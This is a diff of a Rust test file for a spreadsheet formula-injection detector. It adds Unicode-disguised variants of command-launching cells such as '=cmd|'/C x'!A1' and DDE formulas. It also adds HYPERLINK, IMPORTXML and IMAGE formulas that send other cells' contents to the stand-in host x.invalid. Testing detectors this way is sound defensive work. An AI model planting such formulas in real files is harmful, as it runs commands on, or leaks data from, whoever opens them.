@@ -35,9 +35,14 @@ pub const EXAMPLES: &[Example] = &[
 
 #[test]
 fn formulas_that_start_programs_are_found_in_every_spelling() {
-    for cell in
-        ["@SUM(1+1)*cmd|' /C x'!A0", "\"=DDE(\"\"cmd\"\",\"\"/C x\"\")\"", "-2+3+cmd|' /C x'!A0", " =cmd|'/C x'!A1"]
-    {
+    for cell in [
+        "@SUM(1+1)*cmd|' /C x'!A0",
+        "\u{FF1D}cmd|'/C x'!A1",
+        "\u{A0}=cmd|'/C x'!A1",
+        "\"=DDE(\"\"cmd\"\",\"\"/C x\"\")\"",
+        "-2+3+cmd|' /C x'!A0",
+        " =cmd|'/C x'!A1",
+    ] {
         assert!(fired(&table(cell).examine()).contains(&"text_kinds.formula-injection"), "{cell}");
     }
     let alone = case("a.csv", "=cmd|'/C x'!A1").examine();
@@ -45,8 +50,46 @@ fn formulas_that_start_programs_are_found_in_every_spelling() {
 }
 
 #[test]
+fn formulas_that_give_away_other_cells_are_found() {
+    for cell in [
+        "=HYPERLINK(\"\"http://x.invalid/?a=\"\"&A1&A2;\"\"Error\"\")",
+        "=IMPORTXML(CONCAT(\"\"http://x.invalid/\"\";A1);\"\"//a\"\")",
+        "='file:///home/me/notes.csv'#$Sheet1.A1",
+        "=IMAGE(\"\"https://x.invalid/\"\"&B2)",
+    ] {
+        let report = table(&format!("\"{cell}\"")).examine();
+        assert_eq!(fired(&report), ["text_kinds.formula-fetch"], "{cell}");
+    }
+}
+
+#[test]
+fn a_table_that_reads_as_a_log_is_still_a_table() {
+    let line = "2026-01-01 10:00:01,started,x\n";
+    let text = format!("{}2026-01-01 10:00:02,=cmd|'/C x'!A1,x\n", line.repeat(100));
+    let report = case("log.csv", text).examine();
+    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{} {:?}", type_of(&report), fired(&report));
+    let ragged = format!("{}=cmd|'/C x'!A1\n", "words, and more\nwords\na,b,c,d\n".repeat(2000));
+    let report = case("list.csv", ragged.as_str()).examine();
+    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{} {:?}", type_of(&report), fired(&report));
+    assert_eq!(fired(&case("notes.txt", ragged).examine()), Vec::<&str>::new());
+}
+
+#[test]
 fn honest_cells_are_silent() {
-    for cell in ["+49 (0)221 123-45", "-5", "+1.5", "@home", "=A1*1.19", "a | b!", "-|-", "\"=IF(A1>0,1,0)\""] {
+    for cell in [
+        "+49 (0)221 123-45",
+        "-5",
+        "+1.5",
+        "@home",
+        "=A1*1.19",
+        "a | b!",
+        "-|-",
+        "\"=IF(A1>0,1,0)\"",
+        "=HYPERLINK(\"https://x.invalid/a?b=c&d=e\")",
+        "\"=HYPERLINK(\"\"#Sheet1!A1\"\"; A1&B1)\"",
+        "- one | 'two'",
+        "=- 5 !",
+    ] {
         let report = table(cell).examine();
         assert_eq!(report.judgement.verdict, Verdict::Clean, "{cell}: {:?}", fired(&report));
     }
